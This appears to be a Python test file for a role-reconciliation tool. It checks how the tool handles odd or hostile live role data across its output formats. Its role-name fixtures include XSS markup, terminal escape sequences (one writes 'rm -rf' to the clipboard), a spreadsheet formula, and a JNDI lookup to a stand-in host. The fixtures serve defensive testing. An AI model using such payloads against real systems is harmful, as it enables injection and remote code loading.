"""Rows 168 to 192: what a tenant may hold and say."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from email.utils import format_datetime
from html.parser import HTMLParser

from acceptance.desk import Desk, Ran
from catalogue.duties import Watched
from catalogue.rows import Case, Row
from catalogue.telling import row
from catalogue.twisting import LiveCase, Told, Twist, listing, role

from reconciler.sandbox.records import Author, RoleEdit
from reconciler.tenants.clock import SystemClock

UNMANAGED = "Night Shift"
"""A role of the tenant that no file means."""
AS_DATA = ("plan", "--format", "json")
APPLY = ("apply", "--yes", "--format", "json")
ANSWER = "tenant.answer"

HOSTILE = {
    168: {
        "pipe": "Night | Shift | x",
        "backticks": "Night `` ``` Shift",
        "newline": "Night\n\n# Shift",
        "end-of-code": "Night</code></pre></td></tr></table> Shift",
        "image": "<img src=x onerror=alert(1)>",
        "details": "<details open><summary>",
        "end-of-comment": "--> Night <!--",
    },
    170: {
        "marker": "<!-- reconciler:plan -->",
        "heading": "### Plan: no changes",
        "verdict": "\n\n**No changes.** Ready to apply.\n\n",
    },
    171: {
        "escape": "Night \x1b[31mred\x1b[0m",
        "control-of-eight-bits": "Night \x9b31m",
        "link": "\x1b]8;;http://elsewhere.example\x07here\x1b]8;;\x07",
        "clipboard": "\x1b]52;c;cm0gLXJm\x07",
        "return": "Night\rShift",
        "backspace": "Night\b\b\b\b\bShift",
        "bell": "Night\x07",
    },
    173: {"formula": '=HYPERLINK("http://elsewhere.example")', "plus": "+1", "minus": "-1", "at": "@SUM(1)"},
    174: {
        "braces": "{{7*7}}",
        "lookup": "${jndi:ldap://elsewhere.example/x}",
        "percent": "%s%n%(levelname)s",
        "attribute": "{0.__class__}",
    },
    176: {"empty": "", "spaces": "   ", "invisible": "\u200b\u2060\ufeff"},
}
FORMATS = (
    *((*AS_DATA[:2], form) for form in ("text", "json", "markdown", "html", "github", "checklist")),
    *(("matrix", "--format", form) for form in ("text", "html", "json")),
    *(("drift", "--format", form) for form in ("text", "markdown")),
    ("explain", "conversations.bulk_close"),
)
"""Every way in which the name of a live role leaves the program."""


class Elements(HTMLParser):
    """Collects what a page is built of, without its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element with the names of its attributes."""
        self.found.append(f"{tag} {sorted(name for name, _ in attrs)}")

    def handle_endtag(self, tag: str) -> None:
        """Note the end of an element."""
        self.found.append(f"/{tag}")


@dataclass(frozen=True, kw_only=True)
class NameCase(Case):
    """A name that a role of the tenant has."""

    name: str


def elements(page: str) -> list[str]:
    """Give the elements of a page in their order."""
    parser = Elements()
    parser.feed(page)
    parser.close()
    return parser.found


def renamed(name: str) -> Twist:
    """Show the unmanaged role and the description of a managed one as somebody hostile could write them."""
    told = role("Agent", description=name)

    def twist(reply: Told) -> None:
        told(reply)
        for shown in reply.roles:
            if shown["name"] == UNMANAGED:
                shown["name"] = name

    return twist


def _without(field: str) -> Twist:
    return listing(lambda told: told.document["data"][0].pop(field) and None)


def _null(field: str) -> Twist:
    return listing(lambda told: told.document["data"][0].update({field: None}))


FIELDS = ("id", "name", "description", "kind", "editable", "permissions", "etag")
"""What every role of the product has."""


def _twice_and_turned_round(permissions: list[str]) -> list[str]:
    return [*reversed(permissions), permissions[0]]


def _turned_round(permissions: list[str]) -> list[str]:
    return list(reversed(permissions))


def _same_plan(command: tuple[str, ...]) -> Callable[[Watched, Ran], None]:
    def check(watched: Watched, ran: Ran) -> None:
        """Check that the plan is, byte for byte, the one of a tenant that is as usual."""
        assert ran.out == watched.desk.run(*command).out

    return check


def _settled_and_edited(desk: Desk) -> None:
    desk.settle()
    desk.replace("roles/billing-specialist.yaml", "contacts: [view, edit]", "contacts: view")
    desk.confirm_all()


def _resets_the_description(told: Told) -> None:
    """Replace the whole role where some fields were sent, as with a PUT."""
    if told.method == "PATCH" and told.status == 200:
        author = Author(actor="the product", at=SystemClock().now())
        told.store.roles.edit(told.path.removeprefix("/roles/"), RoleEdit(description=""), author)


def _headers(**headers: str) -> Twist:
    return lambda told: told.headers.update({name.replace("_", "-"): value for name, value in headers.items()})


def _an_hour_ahead(told: Told) -> None:
    told.headers["Date"] = format_datetime(dt.datetime.now(dt.UTC) + dt.timedelta(hours=1), usegmt=True)


def _other_id(value: object) -> Twist:
    """Show the unmanaged role by another id, also among what people hold."""
    true: list[str] = []

    def twist(told: Told) -> None:
        for shown in told.roles:
            if shown["name"] == UNMANAGED:
                true[:] = [shown["id"]]
                shown["id"] = value
        for person in told.document["data"] if told.path == "/users" else ():
            person["role_ids"] = [value if [held] == true else held for held in person["role_ids"]]

    return twist


def _nobody(told: Told) -> None:
    told.document.update({"data": [], "total": 0, "next_cursor": None})


CASES: tuple[LiveCase, ...] = (
    LiveCase(
        row=177,
        slug="two-live-roles-with-one-name",
        exit=7,
        code="live.ambiguous",
        says=("rol_",),
        twist=role(UNMANAGED, name="Agent"),
    ),
    LiveCase(
        row=177,
        slug="two-live-roles-equal-but-for-case",
        exit=7,
        code="live.ambiguous",
        twist=role(UNMANAGED, name="AGENT"),
        command=APPLY,
    ),
    LiveCase(
        row=179,
        slug="permission-beyond-the-catalogue",
        exit=0,
        says=("labs.rockets",),
        twist=role("Agent", permissions=lambda held: [*held, "labs.rockets"]),
    ),
    LiveCase(
        row=180,
        slug="permissions-in-another-order",
        exit=0,
        twist=role("Agent", permissions=_turned_round),
        command=AS_DATA,
        check=_same_plan(AS_DATA),
    ),
    LiveCase(
        row=180,
        slug="permission-listed-twice",
        exit=0,
        twist=role("Agent", permissions=_twice_and_turned_round),
        command=AS_DATA,
        check=_same_plan(AS_DATA),
    ),
    *(LiveCase(row=182, slug=f"role-without-{field}", exit=7, code=ANSWER, twist=_without(field)) for field in FIELDS),
    *(LiveCase(row=182, slug=f"role-with-null-for-{f}", exit=7, code=ANSWER, twist=_null(f)) for f in FIELDS),
    LiveCase(row=183, slug="id-of-many-digits", exit=0, twist=_other_id("9007199254740993")),
    LiveCase(row=183, slug="id-with-leading-zeros", exit=0, twist=_other_id("0017")),
    LiveCase(row=183, slug="id-with-a-slash", exit=0, twist=_other_id("a/../b%2F")),
    LiveCase(row=183, slug="id-that-is-a-number", exit=7, code=ANSWER, twist=_other_id(9007199254740993)),
    LiveCase(
        row=185,
        slug="custom-role-became-a-standard-one",
        exit=4,
        code="standard",
        arrange=_settled_and_edited,
        twist=role("Billing Specialist", kind="standard", editable=False),
        command=AS_DATA,
    ),
    *(
        LiveCase(
            row=186,
            slug=f"time-of-change-{slug}",
            exit=0,
            twist=twist,
            command=AS_DATA,
            check=_same_plan(AS_DATA),
        )
        for slug, twist in (
            ("in-the-future", role("Agent", updated_at="2999-01-01T00:00:00Z")),
            ("in-another-form", role("Agent", updated_at="yesterday", created_at=17)),
            (
                "missing",
                listing(lambda told: [shown.pop("updated_at", None) for shown in told.document["data"]] and None),
            ),
        )
    ),
    LiveCase(
        row=188,
        slug="write-that-resets-another-field",
        exit=8,
        arrange=_settled_and_edited,
        twist=_resets_the_description,
        command=APPLY,
    ),
    LiveCase(
        row=189,
        slug="another-tenant-than-the-settings-name",
        exit=7,
        code="live.tenant",
        says=("ten_prod", "ten_sandbox"),
        settings=", id: ten_prod",
    ),
    LiveCase(
        row=189, slug="another-tenant-for-apply", exit=7, code="live.tenant", settings=", id: ten_prod", command=APPLY
    ),
    LiveCase(row=189, slug="the-tenant-that-the-settings-name", exit=0, settings=", id: ten_sandbox"),
    LiveCase(row=191, slug="no-roles-at-all", exit=7, code="live.incomplete", twist=listing(_nobody)),
    LiveCase(row=191, slug="no-roles-at-all-for-apply", exit=7, twist=listing(_nobody), command=APPLY),
    LiveCase(
        row=192,
        slug="deprecated",
        exit=0,
        code="tenant.deprecated",
        says=("since 2026-01-01", "ends on 2027-01-01"),
        twist=_headers(Deprecation="@1767225600", Sunset="Fri, 01 Jan 2027 00:00:00 GMT"),
    ),
    LiveCase(
        row=192,
        slug="another-version-is-no-news",
        exit=0,
        twist=_headers(API_Version="99", X_Api_Version="2999-01-01"),
        command=AS_DATA,
        check=_same_plan(AS_DATA),
    ),
    LiveCase(
        row=150, slug="clock-an-hour-ahead", exit=0, code="tenant.clock", says=("60 minutes",), twist=_an_hour_ahead
    ),
)


NAMES: tuple[NameCase, ...] = tuple(
    NameCase(row=number, slug=slug, exit=0, name=name)
    for number, kinds in HOSTILE.items()
    for slug, name in kinds.items()
)

ROWS: tuple[Row, ...] = (
    row(
        168,
        "name with a pipe, backticks, a newline, `</code>`, `<img onerror>`, `<details>`, `-->`",
        "0",
        "the page has the elements that it has for any name",
        "properties/test_properties_outputs.py::test_html_of_any_name_has_the_same_elements",
        "properties/test_properties_outputs.py::test_markdown_of_any_name_has_the_same_elements_and_no_reference",
    ),
    row(
        170,
        "name that is our own marker or verdict",
        "0",
        "shown as data",
        "unit/render/test_render_markdown.py::test_markdown_begins_with_its_marker_and_a_warning_about_names",
    ),
    row(
        171,
        "name with escape sequences, C1, links, the clipboard, return, backspace, bell",
        "0",
        "escaped in every format",
    ),
    row(
        173,
        "name that a spreadsheet would run",
        "0",
        "prefixed in CSV, as it is elsewhere",
        "unit/render/test_render_notice.py::test_list_is_csv_that_no_spreadsheet_runs",
    ),
    row(174, "name that some program would expand", "0", "nothing is expanded"),
    row(176, "name that is empty, only spaces, only invisible", "0", "shown as `\\u{…}`; the role is never left out"),
    row(177, "two live roles with one name, or equal but for case", "7", "`live.ambiguous` with both ids"),
    row(
        179,
        "live permission that the lock does not know",
        "0",
        "kept and told",
        "unit/core/test_core_guards_people.py::test_sensitive_grant_takes_an_unknown_permission_for_sensitive",
    ),
    row(
        180,
        "permissions twice, or in another order",
        "0",
        "the same plan, byte for byte",
        reason="A key in another case is another key: the product says what its keys are, and nothing here guesses",
    ),
    row(
        182,
        "a field absent, or null",
        "7",
        "`tenant.answer`",
        "unit/tenants/test_tenants_replies.py::test_a_role_with_null_for_a_field_names_it",
        reason="No field has a default: what the interface promises and does not give is an error, never a guess",
    ),
    row(
        183,
        "id that is text of digits, has zeros in front, a slash, or is a number",
        "0; 7",
        "kept as text; `tenant.answer`",
        "unit/tenants/test_tenants_address.py::test_whatever_the_ids_the_address_stays_below_the_base",
    ),
    row(185, "custom role that became a standard one", "4", "`standard`"),
    row(186, "time of change in the future, in another form, missing", "0", "the same plan: it is not read"),
    row(188, "write that resets a field that was not sent", "8", "the read-back compares every field"),
    row(
        189,
        "another tenant than the settings name",
        "7 or 6",
        "`live.tenant`; `stale` where a digest is expected",
        "unit/core/test_core_digest.py::test_digest_tells_every_covered_part_from_every_other",
    ),
    row(
        191,
        "no roles at all",
        "7",
        "`live.incomplete`",
        reason="There is no option for a first run: every tenant of the product has standard roles",
    ),
    row(192, "deprecation announced; another version in a header", "0", "`tenant.deprecated` with the dates; not read"),
)
